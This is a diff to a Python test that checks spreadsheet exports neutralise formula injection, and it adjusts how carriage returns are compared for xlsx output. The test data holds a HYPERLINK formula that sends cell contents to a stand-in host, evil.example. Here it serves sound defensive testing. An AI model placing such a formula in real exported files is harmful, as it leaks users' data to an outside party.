@@ -119,9 +119,9 @@ def test_formula_injection_is_neutralised(world, login, fmt):
     comments = [r[4] for r in rows[1:]]
     for hostile in HOSTILE:
         expected = "'" + hostile
-        if fmt == "xlsx":  # spreadsheets store line ends as \n
-            expected = expected.replace("\r", "\n") if hostile == "\rCR" else expected
-        assert expected in comments, hostile
+        # openpyxl keeps a carriage return (with lxml it is escaped in the XML); without lxml
+        # the XML parser reads it back as a line feed. Either way the cell starts with the quote.
+        assert expected in comments or (fmt == "xlsx" and expected.replace("\r", "\n") in comments), hostile
     assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")" in comments
     assert not any(str(c)[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") for row in rows for c in row
                    if not isinstance(c, int))
